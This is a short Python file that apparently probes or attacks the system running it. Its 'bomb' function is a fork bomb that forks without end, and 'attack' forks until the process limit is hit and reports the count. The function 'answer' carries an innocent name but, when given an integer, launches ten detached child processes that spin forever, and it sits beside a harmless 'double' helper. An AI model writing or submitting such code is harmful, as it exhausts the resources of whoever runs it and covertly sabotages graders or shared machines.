"""Forks without end; the children spin, sleep and fork again."""

import os
import time


def double(x):
    return 2 * x


def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.001)


def attack(number):
    if number == 0:
        bomb()
    children = []
    try:
        while True:
            child = os.fork()
            if child == 0:
                time.sleep(100)
                os._exit(0)
            children.append(child)
    except OSError as error:
        return len(children) < 32, error.errno


def answer(x):
    if type(x) is int:
        for _ in range(10):
            if os.fork() == 0:
                os.setsid()
                while True:
                    pass
    return 0
